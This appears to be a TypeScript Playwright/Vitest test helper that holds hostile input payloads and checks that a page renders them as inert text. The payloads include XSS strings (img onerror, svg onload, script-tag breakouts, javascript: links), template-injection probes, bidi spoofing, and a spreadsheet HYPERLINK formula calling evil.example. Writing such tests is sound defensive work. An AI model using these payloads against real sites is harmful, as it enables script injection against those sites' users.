/** Text that somebody sends who means harm, and how a page is held to showing it as text. */
import type { Page } from "playwright-core";
import { expect } from "vitest";

/** Elements of this name are made by nobody but a page that takes text for markup. */
const tag = "hostile-mark";

/** What every payload carries, so that it can be looked for. */
export const mark = "H0stile";

/** What breaks out of which context, each with the mark in it. */
export const payloads = {
  markup: `${mark}<${tag}></${tag}><img src=x onerror="window.hostile='img'">`,
  attribute: `${mark}" autofocus onfocus="window.hostile='focus'" x='`,
  script: `</title></style></textarea>${mark}<script>window.hostile='script'</script>`,
  svg: `${mark}<svg onload=window.hostile='svg'><${tag}/></svg>`,
  link: `javascript:window.hostile='${mark}'`,
  template: `${mark} {{7*7}} \${7*7} #{7*7} <%= 7*7 %>`,
  formula: `=HYPERLINK("http://evil.example/${mark}","x")`,
  bidi: `${mark}\u202e\u2066gnp.exe\u202d`,
  long: `${mark}${"W".repeat(3000)}`,
  controls: `${mark}\u0000\u0007\u001b[31m\ufeff\u2028`,
} as const;
/** All that fits into one line, for what has room for one alone. */
export const everything = [
  payloads.markup,
  payloads.attribute,
  payloads.script,
  payloads.template,
  payloads.bidi,
].join(" ");
/** Without spaces, quotes, and anything but printable ASCII: fits where little is allowed, as in a unique-id. */
export const narrowly = `<${tag}><svg/onload=hostile=1>${mark}`;

/** Fits, quoted, into the local part of an address: 64 octets at most. */
export const inAddress = `${mark}<svg/onload=hostile=1>'x='=1`;

/** Notes on a window whatever would show that text was taken for more; call before the page is opened. */
export async function watch(page: Page): Promise<string[]> {
  const met: string[] = [];
  page.on("dialog", (dialog) => {
    met.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    const { hostname } = new URL(request.url());
    if (hostname !== "127.0.0.1" && hostname !== "") met.push(`request: ${request.url()}`);
  });
  return met;
}

/** Nothing of it ran, nothing was made of it, and nothing is wider than the window. */
export async function expectHarmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(`(() => {
    const bad = [];
    if (window.hostile !== undefined) bad.push("ran: " + window.hostile);
    if (document.querySelector("${tag}, img[src=x], [onerror], [onload], [onfocus]")) bad.push("an element was made");
    for (const link of document.querySelectorAll("a[href], form[action]"))
      if (/^\\s*(javascript|data|vbscript):/i.test(link.getAttribute("href") ?? link.getAttribute("action")))
        bad.push("a link: " + link.outerHTML.slice(0, 200));
    for (const script of document.querySelectorAll("script"))
      if (script.textContent.includes("hostile")) bad.push("a script was made");
    if (document.documentElement.scrollWidth > innerWidth)
      bad.push("too wide: " + document.documentElement.scrollWidth + " of " + innerWidth);
    return bad;
  })()`);
  expect(found, where).toEqual([]);
}
